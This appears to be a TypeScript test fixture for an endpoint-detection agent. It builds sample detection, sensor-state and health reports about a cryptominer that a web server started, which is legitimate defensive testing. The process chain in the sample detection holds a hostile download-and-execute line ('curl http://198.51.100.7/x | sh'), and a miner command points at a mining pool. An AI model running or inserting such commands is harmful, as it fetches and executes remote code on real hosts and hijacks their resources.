import { randomUUID } from 'node:crypto'
import type { Detection, WatchState } from '../../../model/index.ts'
import type { Report } from '../../../model/wire/index.ts'

/** A miner that a web server's shell started, as an agent that observes tells of it. */
export function detectionOf(more: Partial<Detection> = {}): Detection {
  const path = more.subject?.path ?? '/tmp/.x/kdevtmpfsi'
  return {
    id: randomUUID(),
    at: '2026-11-20T11:59:58Z',
    verdict: 'confirmed',
    level: 'critical',
    title: 'A miner was started',
    because: ['It spoke with a mining pool.'],
    subject: {
      kind: 'process',
      pid: 4711,
      startTime: 99_000,
      path,
      command: `${path} -o pool.example:3333`,
      user: 'www-data',
    },
    chain: [
      { pid: 4700, name: 'sh', path: '/bin/dash', command: 'sh -c curl http://198.51.100.7/x | sh' },
      { pid: 812, name: 'nginx', path: '/usr/sbin/nginx', command: 'nginx: worker process' },
    ],
    findings: [
      {
        rule: { id: 'exec-from-drop-place', title: 'Program started from a temporary directory by a web server' },
        level: 'high',
        class: 'execution',
        specific: 'mining',
        conclusive: false,
        attack: ['T1059.004'],
        families: [],
        because: `nginx started ${path}.`,
        event: {
          kind: 'exec',
          at: '2026-11-20T11:59:58Z',
          pid: 4711,
          argv: [path],
          command: path,
          exeDeleted: false,
          exeInMemory: false,
          ancestors: [],
        },
      },
    ],
    families: ['kinsing'],
    attack: ['T1496', 'T1059.004'],
    responses: [],
    afterMs: 12,
    ...more,
  }
}

export function reportOf(detection: Detection): Report {
  return { kind: 'detection', detection }
}

/** What an agent reports of its sensors. */
export function watchOf(more: Partial<WatchState> = {}): WatchState {
  const since = '2026-11-20T08:00:00Z'
  return {
    sensors: [
      { name: 'exec', source: 'tracepoint', since, events: 5_000, lost: 0 },
      { name: 'connections', source: 'sock-diag', since, events: 200, lost: 0 },
    ],
    prevention: { mode: 'observe', asked: 0, allowed: 0, denied: 0, late: 0, killed: 0, wouldHave: 2 },
    detections: 2,
    ...more,
  }
}

export function healthOf(watch: WatchState | undefined): Report {
  return {
    kind: 'health',
    health: {
      periodSeconds: 300,
      cpuSeconds: 1,
      residentBytes: 1_000,
      anonymousBytes: 1_000,
      childrenCpuSeconds: 0,
      spool: { items: 0, bytes: 0 },
      losses: {},
      policy: { version: 1, tightened: [] },
      ...(watch === undefined ? {} : { watch }),
    },
  }
}
